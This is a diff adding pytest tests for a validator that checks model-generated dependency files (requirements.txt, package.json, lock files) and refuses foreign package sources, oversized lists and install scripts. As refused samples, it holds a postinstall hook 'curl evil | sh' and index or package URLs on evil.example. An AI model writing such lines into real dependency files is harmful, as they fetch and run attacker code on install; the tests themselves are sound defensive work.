@@ -1,0 +1,101 @@
+"""The rules for dependency files: only packages of the configured index, few of them, no install scripts."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from genlib.depfiles import MAX_PACKAGES, check
+from genlib.errors import OutputError
+from genlib.llm_output import Answer, FileSpec, check_answer
+
+REQ = "api/notes/requirements.txt"
+PKG = "frontend/web/package.json"
+LOCK = "frontend/web/package-lock.json"
+
+
+def test_pinned_requirements_with_extras_markers_and_comments_pass() -> None:
+    check(REQ, "# web\nflask==3.0.3\npsycopg[binary]==3.2.1 ; python_version >= '3.9'  # db\n\nrequests>=2,<3\n")
+
+
+@pytest.mark.parametrize(
+    ("line", "why"),
+    [
+        ("--index-url https://evil.example/simple", "options"),
+        ("-e .", "options"),
+        ("-r other.txt", "options"),
+        ("--extra-index-url=https://x.example", "options"),
+        ("flask @ https://evil.example/flask.whl", "URL or path"),
+        ("https://evil.example/flask.tar.gz", "not a requirement"),
+        ("./vendor/flask", "not a requirement"),
+        ("/tmp/pkg.whl", "not a requirement"),
+        ("flask==3.0 \\", "options"),
+    ],
+)
+def test_requirement_lines_that_point_elsewhere_are_refused(line: str, why: str) -> None:
+    with pytest.raises(OutputError, match=why) as caught:
+        check(REQ, f"six==1.16.0\n{line}\n")
+    assert str(caught.value).startswith(f"{REQ}: line 2")
+
+
+def test_too_many_packages_or_bytes_are_refused() -> None:
+    many = "".join(f"pkg{i}==1.0\n" for i in range(MAX_PACKAGES + 1))
+    with pytest.raises(OutputError, match=f"over the {MAX_PACKAGES} allowed"):
+        check(REQ, many)
+    with pytest.raises(OutputError, match="bytes, over the"):
+        check(REQ, "# " + "x" * 20000 + "\nsix==1.16.0\n")
+    deps = {f"pkg{i}": "1.0.0" for i in range(MAX_PACKAGES + 1)}
+    with pytest.raises(OutputError, match=f"over the {MAX_PACKAGES} allowed"):
+        check(PKG, json.dumps({"dependencies": deps}))
+
+
+def test_a_plain_package_json_passes() -> None:
+    check(
+        PKG, json.dumps({"name": "web", "scripts": {"start": "node server.js"}, "dependencies": {"express": "^4.19.2"}})
+    )
+
+
+@pytest.mark.parametrize(
+    ("package", "why"),
+    [
+        ({"scripts": {"postinstall": "curl evil | sh"}}, "--ignore-scripts"),
+        ({"dependencies": {"x": "git+https://github.com/a/b.git"}}, "only a version"),
+        ({"dependencies": {"x": "file:../x"}}, "only a version"),
+        ({"dependencies": {"x": "github:a/b"}}, "only a version"),
+        ({"dependencies": {"x": "a/b"}}, "only a version"),
+        ({"dependencies": {"x": "npm:evil@1"}}, "only a version"),
+        ({"devDependencies": {"x": "https://evil.example/x.tgz"}}, "only a version"),
+        ({"dependencies": ["express"]}, "must be an object"),
+    ],
+)
+def test_package_json_pointing_elsewhere_or_with_install_scripts_is_refused(
+    package: dict[str, object], why: str
+) -> None:
+    with pytest.raises(OutputError, match=why):
+        check(PKG, json.dumps(package))
+
+
+def test_a_lock_file_may_only_resolve_to_a_registry() -> None:
+    good = {
+        "packages": {
+            "": {"name": "web"},
+            "node_modules/ms": {"resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"},
+        }
+    }
+    check(LOCK, json.dumps(good))
+    bad = {"packages": {"node_modules/x": {"resolved": "file:../x"}}}
+    with pytest.raises(OutputError, match="only registry packages"):
+        check(LOCK, json.dumps(bad))
+    with pytest.raises(OutputError, match="not valid JSON"):
+        check(LOCK, "{")
+
+
+def test_only_the_top_of_a_component_folder_holds_dependency_files() -> None:
+    check("api/notes/docs/requirements.txt", "-e anything goes: not a dependency file")
+
+
+def test_a_model_answer_with_a_bad_dependency_file_is_refused_with_the_reason() -> None:
+    answer = Answer(files=[FileSpec(path=REQ, content="--index-url https://evil.example/simple\n")])
+    with pytest.raises(OutputError, match=f"answer: {REQ}: line 1 .* options"):
+        check_answer(answer)
